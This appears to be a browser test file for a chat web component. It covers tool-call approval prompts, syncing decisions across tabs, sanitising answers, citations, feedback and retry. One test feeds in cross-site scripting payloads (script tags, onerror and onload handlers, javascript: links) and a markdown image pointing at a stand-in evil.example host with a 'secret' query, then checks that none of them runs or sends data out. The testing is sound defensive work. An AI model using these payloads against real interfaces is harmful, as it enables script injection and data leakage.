/** What an answer in `<parley-chat>` may hold beside its words, and what may be done with it. */

import assert from "node:assert/strict";
import { after, test } from "node:test";

import { say, script, settled, visited } from "./chat.ts";
import { browser } from "./pages.ts";
import { Parley } from "./parley.ts";

const chromium = await browser();
const parley = await Parley.started(after, { PARLEY_MODEL: "scripted" });

test("a tool's call is shown as it is, and waits for its decision", async (t) => {
  const visit = await visited(t, chromium, parley.url);
  const { chat } = visit;
  const tool = { name: "wipe", arguments: { disk: "all", n: 3 }, approval: true, result: "wiped" };
  for (const [decision, outcome] of [
    ["Allow", "wipe · done"],
    ["Deny", "wipe · denied"],
  ] as const) {
    await say(visit, script({ tokens: 1, text: "over", tool }));
    const question = chat.getByRole("group", { name: "May the tool “wipe” be used?" });
    await question.waitFor();
    assert.equal(await chat.locator(".dots:visible").count(), 0, "it is asked once");
    assert.match((await question.textContent()) ?? "", /"disk": "all",\s+"n": 3/);
    await question.getByRole("button", { name: decision }).click();
    await chat.getByText(outcome).waitFor();
    await settled(visit);
  }
});

test("a call that another tab decides is decided here too", async (t) => {
  const visit = await visited(t, chromium, parley.url);
  const tool = { name: "wipe", arguments: {}, approval: true, result: "wiped" };
  await say(visit, script({ tokens: 1, text: "over", tool }));
  await visit.chat.getByRole("button", { name: "Allow" }).waitFor();
  const shown = await visit.page.evaluate(() => {
    const [, kept] =
      Object.entries(sessionStorage).find(([key]) => key.startsWith("parley-chat")) ?? [];
    return JSON.parse(kept ?? "").texts.shown as string | undefined;
  });
  assert.ok(shown);
  const other = await visit.page.context().newPage();
  await other.goto(visit.page.url());
  await other
    .locator("parley-chat")
    .evaluate((node, id) => node.setAttribute("conversation", id), shown);
  await other.getByRole("button", { name: "Deny" }).click();
  await visit.chat.getByText("wipe · denied").waitFor();
  assert.equal(await visit.chat.getByRole("button", { name: "Allow" }).count(), 0);
});

test("nothing in an answer runs, is asked for, or leads anywhere but to the web", async (t) => {
  const visit = await visited(t, chromium, parley.url);
  const before = new Set(visit.seen.requests.keys());
  const text = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "![pixel](https://evil.example/p.png?q=secret) [a](javascript:alert(1)) [b](data:text/html,x)",
    "[c](//evil.example) <https://evil.example/?q=secret>",
    "```html\n<svg onload=alert(1)>\n```\n",
  ].join("\n\n");
  await say(visit, script({ tokens: 1, text }));
  await settled(visit);
  const found = await visit.chat.evaluate((node) => {
    const text = node.shadowRoot?.querySelector(".assistant .text");
    const links = [...(text?.querySelectorAll("a[href]") ?? [])];
    return {
      links: links.map((link) => link.getAttribute("href")),
      others: text?.querySelectorAll("img, script, svg[onload], iframe, style").length,
    };
  });
  assert.deepEqual(found, { links: ["https://evil.example/?q=secret"], others: 0 });
  await visit.chat.getByRole("button", { name: "Show image: evil.example" }).waitFor();
  for (const origin of visit.seen.requests.keys()) {
    assert.ok(before.has(origin) || origin.endsWith(`:${parley.port}`), origin);
  }
});

test("a citation opens its source, and Escape goes back to where it was opened", async (t) => {
  const visit = await visited(t, chromium, parley.url, { expected: /404/ });
  const { chat } = visit;
  const source = { document: "d1", title: "Timetable", snippet: "Trains go at nine." };
  const sources = [{ ...source, url: "https://rail.example/t", start: 10, end: 28 }];
  await say(
    visit,
    script({ tokens: 3, text: "word ", citations: [{ start: 0, end: 4, sources }] }),
  );
  await settled(visit);
  await chat.getByRole("button", { name: "1 Timetable" }).click();
  const sheet = chat.getByRole("dialog", { name: "Source 1: Timetable" });
  await sheet.getByText("The whole passage is not available.").waitFor();
  assert.match(
    (await sheet.textContent()) ?? "",
    /Trains go at nine\.The whole passage is not available\.https:\/\/rail\.example\/t/,
  );
  await visit.page.keyboard.press("Escape");
  assert.equal(await sheet.count(), 0);
  const focused = await chat.evaluate((node) =>
    node.shadowRoot?.activeElement?.getAttribute("data-do"),
  );
  assert.equal(focused, "source 1");
});

test("feedback is one press, and a word about it is welcome", async (t) => {
  const visit = await visited(t, chromium, parley.url);
  const { chat, page } = visit;
  await say(visit, script({ tokens: 2, text: "word " }));
  await settled(visit);
  await chat.getByRole("button", { name: "Bad answer" }).click();
  await chat.getByRole("textbox", { name: "What should we know? (optional)" }).waitFor();
  await page.keyboard.type("too short");
  await page.keyboard.press("Enter");
  await chat.locator("[data-do=down][aria-pressed=true]").waitFor();
  await chat.locator("input").waitFor({ state: "detached" });
});

test("an answer that fails says so in its place and can be asked for again", async (t) => {
  const visit = await visited(t, chromium, parley.url);
  await say(visit, "no script");
  await visit.chat.getByText("The answer failed.").waitFor();
  assert.equal(await visit.chat.getByText("Answer again", { exact: true }).count(), 1);
  assert.equal(await visit.chat.getByRole("button", { name: "Answer again" }).count(), 1);
});
